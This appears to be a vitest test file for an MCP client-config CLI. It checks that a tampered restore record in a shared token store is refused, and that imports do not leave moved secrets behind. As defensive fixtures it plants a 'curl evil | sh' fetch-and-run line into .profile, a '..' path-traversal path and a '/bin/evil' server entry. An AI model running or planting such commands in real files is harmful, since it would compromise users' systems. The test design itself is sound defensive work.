// A restore record lives in the token store, which may be shared (Vault): one planted there must not
// make `clients restore` write or delete any file but the client's own and server_config.json. And a
// secret an import moves must not stay behind in the rewritten file (a YAML anchor).
import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { applyImport, restoreClient } from '../../src/clients/apply.js';
import { planImport } from '../../src/clients/plan.js';
import { TokenManager } from '../../src/tokens/manager.js';
import { CLI, createSandbox, ownConfigPath, writeOwnConfig, type Sandbox } from '../helpers/cli.js';
import { filesUnder, sentinel, stdioServer, writeText } from '../helpers/client-configs.js';
import { MemoryStore } from '../helpers/memory-store.js';
import { sandboxStore } from '../helpers/seed-store.js';

let sandbox: Sandbox;
beforeEach(async () => {
  sandbox = await createSandbox({ MCP_CLI_ENCRYPTION_KEY: 'pw', MCP_CLI_TOKEN_BACKEND: 'encrypted' }, { inProcess: true });
});
afterEach(async () => {
  await sandbox.cleanup();
});

const sha = (text: string) => createHash('sha256').update(text, 'utf8').digest('hex');
const where = () => ({ env: sandbox.env, platform: process.platform });
const cursorFile = () => join(sandbox.home, '.cursor', 'mcp.json');
const planCtx = () => ({ env: sandbox.env, platform: process.platform, self: { execPath: process.execPath, script: CLI }, existingTokens: new Set<string>() });

/** A record as an import would store it, through the same store API, with `files` and `tokens` as given. */
async function plant(manager: TokenManager, files: unknown[], tokens: unknown[] = [], client = 'cursor'): Promise<void> {
  const record = { version: 1, client, imports: ['2026-01-01T00:00:00.000Z'], files, tokens };
  await manager.writeRecord(`clients-${client}`, { record: JSON.stringify(record) }, { purpose: 'clients restore', client, imports: '1' });
}

const fileRecord = (path: string, fields: Record<string, unknown> = {}) => ({
  path,
  format: 'json',
  beforeSha: sha('x'),
  afterSha: sha('y'),
  undo: null,
  entries: [],
  ...fields,
});

/** Every file under HOME, byte for byte. */
const snapshot = () => filesUnder(sandbox.home);
/** The same but the store and its audit log, which reading the record touches. */
const configFiles = async () => {
  const all = await snapshot();
  for (const path of all.keys()) if (path.startsWith(sandbox.env.XDG_DATA_HOME!) || path.startsWith(sandbox.env.XDG_STATE_HOME!)) all.delete(path);
  return all;
};

async function refused(manager: TokenManager, problem: string): Promise<void> {
  const before = await snapshot();
  await expect(restoreClient(manager, 'cursor', where())).rejects.toThrow(
    `the record of the last cursor import in the token store is damaged, of a newer mcp-cli, or not made by mcp-cli (${problem}); nothing was restored`,
  );
  expect(await snapshot()).toEqual(before);
  expect(await manager.readRecord('clients-cursor', 'clients')).toBeDefined();
}

describe('a planted restore record', () => {
  it('cannot add an entry to an unrelated JSON file (an entry without `written`)', async () => {
    const victim = await writeText(join(sandbox.home, 'notes', 'settings.json'), '{\n  "theme": "dark"\n}\n');
    const manager = new TokenManager(new MemoryStore());
    await plant(manager, [fileRecord(victim, { entries: [{ path: ['mcpServers', 'evil'], original: { command: '/bin/evil' } }] })]);
    await refused(manager, 'files[0].entries[0].written is missing');
    await plant(manager, [fileRecord(victim, { entries: [{ path: ['mcpServers', 'evil'], original: { command: '/bin/evil' }, written: null }] })]);
    await refused(manager, `files[0].path ${victim} is neither server_config.json nor a file of Cursor`);
    expect(await readFile(victim, 'utf8')).toBe('{\n  "theme": "dark"\n}\n');
  });

  it('cannot delete a file whose hash it knows (beforeSha null)', async () => {
    const text = 'precious\n';
    const victim = await writeText(join(sandbox.home, 'precious.txt'), text);
    const manager = new TokenManager(new MemoryStore());
    await plant(manager, [fileRecord(victim, { beforeSha: null, afterSha: sha(text), undo: [] })]);
    await refused(manager, `files[0].path ${victim} is neither server_config.json nor a file of Cursor`);
    expect(await readFile(victim, 'utf8')).toBe(text);
  });

  it('cannot replace a file through an undo edit, nor reach out of a known directory with ..', async () => {
    const text = 'export PATH=/usr/bin\n';
    const victim = await writeText(join(sandbox.home, '.profile'), text);
    const evil = 'curl evil | sh\n';
    const undo = [[{ offset: 0, length: text.length, text: evil }]];
    const manager = new TokenManager(new MemoryStore());
    const sneaky = join(sandbox.home, '.cursor', '..', '.profile');
    await plant(manager, [fileRecord(sneaky, { beforeSha: sha(evil), afterSha: sha(text), undo })]);
    await refused(manager, `files[0].path ${sneaky} is neither server_config.json nor a file of Cursor`);
    expect(await readFile(victim, 'utf8')).toBe(text);
  });

  it("is refused whole when a later file is bad: the client's own file is not restored either, no token is deleted", async () => {
    const ownText = '{ "mcpServers": {} }\n';
    const cursorText = '{ "mcpServers": {} }\n';
    const cursor = await writeText(cursorFile(), cursorText);
    const victim = await writeText(join(sandbox.home, 'victim.json'), '{}');
    const store = new MemoryStore();
    const manager = new TokenManager(store);
    await manager.set({ namespace: 'api-key', name: 'kept', type: 'api-key', secret: { key: 'value-1' } });
    await plant(
      manager,
      [
        fileRecord(cursor, { beforeSha: sha(ownText + 'x'), afterSha: sha(cursorText), undo: [[{ offset: 0, length: cursorText.length, text: 'changed' }]] }),
        fileRecord(victim, { beforeSha: null, afterSha: sha('{}'), undo: [] }),
      ],
      [{ namespace: 'api-key', name: 'kept', sha256: sha('value-1') }],
    );
    await refused(manager, `files[1].path ${victim} is neither server_config.json nor a file of Cursor`);
    expect(await readFile(cursor, 'utf8')).toBe(cursorText);
    expect((await manager.list()).map((t) => t.name)).toEqual(['kept']);
  });

  it("a project file only under the project directory the record names for it, in the client's format", async () => {
    const project = join(sandbox.home, 'repo');
    const inside = await writeText(join(project, '.cursor', 'mcp.json'), '{}');
    const outside = await writeText(join(project, 'package.json'), '{}');
    const manager = new TokenManager(new MemoryStore());
    await plant(manager, [fileRecord(outside, { project })]);
    await refused(manager, `files[0].path ${outside} is neither server_config.json nor a file of Cursor`);
    await plant(manager, [fileRecord(inside)]);
    await refused(manager, `files[0].path ${inside} is neither server_config.json nor a file of Cursor`);
    await plant(manager, [fileRecord(inside, { project, format: 'yaml' })]);
    await refused(manager, "files[0].format is not json, the format of Cursor's files");
    await plant(manager, [fileRecord(inside, { project: 'repo' })]);
    await refused(manager, 'files[0].project is not an absolute path');
  });

  it('every field is checked for its type', async () => {
    const cursor = cursorFile();
    const own = ownConfigPath(sandbox.home);
    await writeOwnConfig(sandbox.home, { mcpServers: {} });
    const manager = new TokenManager(new MemoryStore());
    const cases: [unknown[], unknown[], string][] = [
      [[fileRecord(own, { format: 'ini' })], [], 'files[0].format is not json, yaml or toml'],
      [[fileRecord(own, { format: 'toml' })], [], 'files[0].format is not json for server_config.json'],
      [[fileRecord(own, { format: 'yaml' })], [], 'files[0].format is not json for server_config.json'],
      [[fileRecord(own, { beforeSha: 'ab' })], [], 'files[0].beforeSha is neither null nor a SHA-256 hash'],
      [[fileRecord(own, { afterSha: null })], [], 'files[0].afterSha is not a SHA-256 hash'],
      [[fileRecord(own, { undo: [[{ offset: -1, length: 0, text: '' }]] })], [], 'files[0].undo[0][0]: offset and length must be counts, text a string'],
      [[fileRecord(own, { undo: [{}] })], [], 'files[0].undo is neither null nor a list of lists of edits'],
      [[fileRecord(own, { entries: [{ path: [], written: 1 }] })], [], 'files[0].entries[0].path is not a list of keys and indexes'],
      [[fileRecord(own, { entries: [{ path: [{}], written: 1 }] })], [], 'files[0].entries[0].path is not a list of keys and indexes'],
      [[fileRecord(own, { extra: 1 })], [], "files[0] has an unknown field 'extra'"],
      [[fileRecord('relative.json')], [], 'files[0].path is not an absolute path'],
      [
        [fileRecord(cursor), fileRecord(join(sandbox.home, '.cursor', '.', 'mcp.json'))],
        [],
        `files[1].path ${join(sandbox.home, '.cursor', 'mcp.json')} appears twice`,
      ],
      [[], [{ namespace: 'api-key', name: 'a' }], 'tokens[0].sha256 is missing'],
      [[], [{ namespace: 'api-key', name: 'a', sha256: 'no' }], 'tokens[0].sha256 is not a SHA-256 hash'],
      [[], [{ namespace: 'api-key', name: 7, sha256: sha('') }], 'tokens[0]: namespace and name must be strings'],
      [
        [],
        [{ namespace: 'api-key', name: 'a', sha256: sha(''), previous: { metadata: { namespace: 'bearer', name: 'a' }, secret: {} } }],
        'tokens[0].previous is another token than tokens[0]',
      ],
    ];
    for (const [files, tokens, problem] of cases) {
      await plant(manager, files, tokens);
      await refused(manager, problem);
    }
    await manager.writeRecord('clients-cursor', { record: '{"version":1,"client":"cursor","imports":[],"files":[],"tokens":[],"more":1}' }, {});
    await refused(manager, "record has an unknown field 'more'");
    await manager.writeRecord('clients-cursor', { record: 'not json' }, {});
    await refused(manager, 'it is not JSON');
  });

  it('the command says what is wrong, exits 1 and changes nothing', async () => {
    const victim = await writeText(join(sandbox.home, 'victim.json'), '{"a": 1}');
    const manager = new TokenManager(sandboxStore(sandbox.env.XDG_DATA_HOME!, 'pw'));
    await plant(manager, [fileRecord(victim, { entries: [{ path: ['a'], original: 2, written: 1 }] })]);
    const before = await configFiles();
    const result = await sandbox.run(['clients', 'restore', 'cursor']);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(`files[0].path ${victim} is neither server_config.json nor a file of Cursor); nothing was restored`);
    expect(await configFiles()).toEqual(before);
    expect(await manager.readRecord('clients-cursor', 'clients')).toBeDefined();
  });
});

describe('a record an import made', () => {
  it('restores a project file (the record names its project directory) byte for byte', async () => {
    const project = join(sandbox.home, 'repo');
    const text = `{\n  // team servers\n  "mcpServers": { "db": ${JSON.stringify(stdioServer({ DB_PASSWORD: sentinel('project') }))} }\n}\n`;
    const path = await writeText(join(project, '.cursor', 'mcp.json'), text);
    const manager = new TokenManager(new MemoryStore());
    await applyImport(manager, planImport(planCtx(), { client: 'cursor', project }), new Date());
    expect(await readFile(path, 'utf8')).not.toBe(text);
    const record = JSON.parse((await manager.readRecord('clients-cursor', 'clients'))!.secret.record!);
    expect(record.files.map((f: { project?: string }) => f.project)).toEqual([undefined, project]);
    expect((await restoreClient(manager, 'cursor', where()))?.kept).toEqual([]);
    expect(await readFile(path, 'utf8')).toBe(text);
    expect(existsSync(ownConfigPath(sandbox.home))).toBe(false);
  });
});

describe('a secret a YAML anchor holds', () => {
  it('is not left behind on the anchor line: the import is refused naming the line, never the value', async () => {
    const secret = `sk-${sentinel('anchor')}`;
    const text = [
      '# goose',
      'keys:',
      `  openai: &k ${secret}`,
      'extensions:',
      '  ai:',
      '    name: ai',
      '    type: stdio',
      `    cmd: ${process.execPath}`,
      '    args: []',
      '    envs:',
      '      OPENAI_API_KEY: *k',
      '',
    ].join('\n');
    const path = await writeText(join(sandbox.home, '.config', 'goose', 'config.yaml'), text);
    expect(() => planImport(planCtx(), { client: 'goose' })).toThrow(
      `${path}:3: a secret this import moves into the store would still be in the file after it`,
    );
    const before = await snapshot();
    const result = await sandbox.run(['clients', 'import', '--yes', 'goose']);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('config.yaml:3: a secret this import moves into the store would still be in the file after it');
    expect(result.stderr).toContain('replace what line 3 of');
    expect(result.stdout + result.stderr).not.toContain(secret);
    expect(await snapshot()).toEqual(before);
    expect(await readFile(path, 'utf8')).toBe(text);
    expect((await sandbox.run(['clients', 'import', 'goose', '--dry-run'])).code).toBe(1);
  });

  it('a JSON file that keeps a copy of the moved value elsewhere is refused too', async () => {
    const secret = sentinel('copy');
    const text = JSON.stringify({ mcpServers: { a: stdioServer({ API_KEY: secret }) }, note: `old key ${secret}` }, null, 2) + '\n';
    const path = await writeText(cursorFile(), text);
    const manager = new TokenManager(new MemoryStore());
    expect(() => planImport(planCtx(), { client: 'cursor' })).toThrow(`${path}:`);
    expect(await readFile(path, 'utf8')).toBe(text);
    expect(await manager.list()).toEqual([]);
  });
});
